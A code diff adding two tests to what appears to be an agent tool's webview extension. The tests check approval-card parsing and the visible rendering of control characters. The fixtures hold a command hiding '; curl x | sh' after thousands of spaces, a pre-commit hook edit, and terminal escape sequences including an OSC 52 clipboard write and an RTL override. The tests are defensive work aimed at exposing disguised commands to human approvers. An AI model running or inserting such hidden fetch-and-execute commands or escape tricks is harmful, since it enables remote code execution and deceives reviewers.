@@ -221,3 +221,28 @@ test('end to end: a multi-part reasoning run on the simulator reduces to a root 
     await sim.close();
   }
 });
+
+test('approval cards: the display fields parse, the webview may ask to open an approval\'s whole text, a bad sandbox value does not parse', () => {
+  assert.equal(parseWebviewMessage({ type: 'openApprovalText', id: 'approval-1' }).ok, true);
+  assert.equal(parseWebviewMessage({ type: 'openApprovalText', id: '' }).ok, false);
+  const card = { id: 'a', kind: 'command', title: 'Run a command in /w', detail: 'an operator', command: 'npm test⟨10,000 spaces⟩; curl x | sh', commandLength: 10_020, commandTransformed: true, sandbox: 'unsandboxed', openable: true };
+  assert.equal(parseHostMessage({ type: 'approvals', approvals: [card] }).ok, true);
+  const edit = { id: 'b', kind: 'edit', title: 'Edit .git/hooks/pre-commit', diff: '+x', diffLines: 5000, diffMoreLines: 2000, diffShortenedLines: 1, protectedReason: '.git/hooks decide what git runs', openable: true };
+  assert.equal(parseHostMessage({ type: 'approvals', approvals: [edit] }).ok, true);
+  assert.equal(parseHostMessage({ type: 'approvals', approvals: [{ ...card, sandbox: 'maybe' }] }).ok, false);
+  assert.equal(parseHostMessage({ type: 'approvals', approvals: [{ ...edit, diffMoreLines: -1 }] }).ok, false);
+});
+
+test('the run tree shows control characters in tool names, arguments and approval summaries visibly', () => {
+  const view = createRunView('q');
+  applyRaw(view, [
+    ev('run.started', { query: 'q', requestedMode: 'agentic' }),
+    ev('thread.started', { goal: 'q', budget: null }),
+    ev('tool.called', { callId: 'c1', name: 'read_file\x1b]52;c;QQ==\x07', arguments: { path: 'a\u202eb' } }),
+    ev('approval.requested', { id: 'approval-1', kind: 'command', command: 'npm test\x1b[2K\x1b[G\u009b2J' }),
+  ]);
+  const tool = view.threads.get('root')!.tools[0]!;
+  assert.equal(tool.name, 'read_file\\x1b]52;c;QQ==\\x07');
+  assert.match(tool.args, /a\\u202eb/);
+  assert.equal(view.approvals[0]!.summary, 'npm test\\x1b[2K\\x1b[G\\x9b2J');
+});
